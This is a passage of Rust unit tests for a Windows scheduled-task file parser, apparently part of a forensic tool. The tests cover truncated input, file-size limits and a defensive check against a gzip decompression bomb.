    assert_eq!(essence(&read_bytes(&path, &gz, None)), essence(&read_bytes(&path, &bytes, None)));
    // Cut short: the rows before the cut survive.
    let rs = read_bytes(&path, &gz[..gz.len() - 12], None);
    assert_eq!(rs[0].name, "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag");
}

#[test]
fn size_is_bounded() {
    let p = Path::new("big");
    // 10 MB of text that is no task file.
    assert!(read_task_file(p, &vec![b'A'; 10 << 20], None).is_none());
    // 10 MB of pseudo-random bytes, bare and behind a UTF-16 BOM.
    let mut x = 0x2545_f491_4f6c_dd1du64;
    let noise: Vec<u8> = (0..10 << 20)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 32) as u8
        })
        .collect();
    let _ = read_task_file(p, &noise, None);
    let _ = read_task_file(p, &[&[0xff, 0xfe][..], &noise].concat(), None);
    // A 10 MB task XML is over the XML parser's limit: an error, not an attempt.
    let xml = format!("<Task><RegistrationInfo><Description>{}</Description></RegistrationInfo></Task>", "a".repeat(10 << 20));
    let e = read_task_file(p, xml.as_bytes(), None).unwrap().unwrap_err();
    assert!(e.contains("limit"), "{e}");
    // A 10 MB JSON-lines export is read whole: 10 MiB / 64-byte lines.
    let line = "{\"TaskName\":\"T\",\"TaskPath\":\"\\\\\",\"Actions\":{\"Execute\":\"x.exe\"}}";
    let line = format!("{line}{}\n", " ".repeat(63 - line.len()));
    assert_eq!(line.len(), 64);
    let rs = read_bytes(p, line.repeat((10 << 20) / 64).as_bytes(), Some("h"));
    assert_eq!(rs.len(), 163_840);
    assert_eq!(rs[163_839].evidence, "big:163840");
    // Over the file limit, raw or as a gzip that inflates past it.
    let huge = format!("{{\"TaskName\":\"T\",\"TaskPath\":\"\\\\\",\"Description\":\"{}\"}}", "a".repeat(MAX_TASK_FILE_BYTES));
    let e = read_task_file(p, huge.as_bytes(), None).unwrap().unwrap_err();
    assert!(e.contains("limit"), "{e}");
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut gz, huge.as_bytes()).unwrap();
    let e = read_task_file(p, &gz.finish().unwrap(), None).unwrap().unwrap_err();
    assert!(e.contains("limit"), "{e}");
    // A gzip bomb of zeros is no task file, and only its first megabyte is inflated to see that.
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut gz, &vec![0u8; 64 << 20]).unwrap();
    assert!(read_task_file(p, &gz.finish().unwrap(), None).is_none());
}

#[test]
fn every_fixture_survives_truncation() {
    for rel in [
        ATEXEC,
        DEFRAG,
        "WKS-07/Windows/System32/Tasks/Updater",
        "exports/schtasks_query.xml",
        "exports/get_scheduledtask.json",
        "exports/get_scheduledtask_depth2.json",
        "exports/get_scheduledtask.jsonl",
        "exports/get_scheduledtask.csv",
    ] {
        let path = fixture(rel);
        let bytes = std::fs::read(&path).unwrap();
        for n in (0..bytes.len()).step_by(7) {
            if let Some(Ok(rs)) = read_task_file(&path, &bytes[..n], None) {
                assert!(rs.iter().all(|r| r.definition.is_some() || r.problem.is_some()), "{rel} at {n}");
            }
        }
    }
}
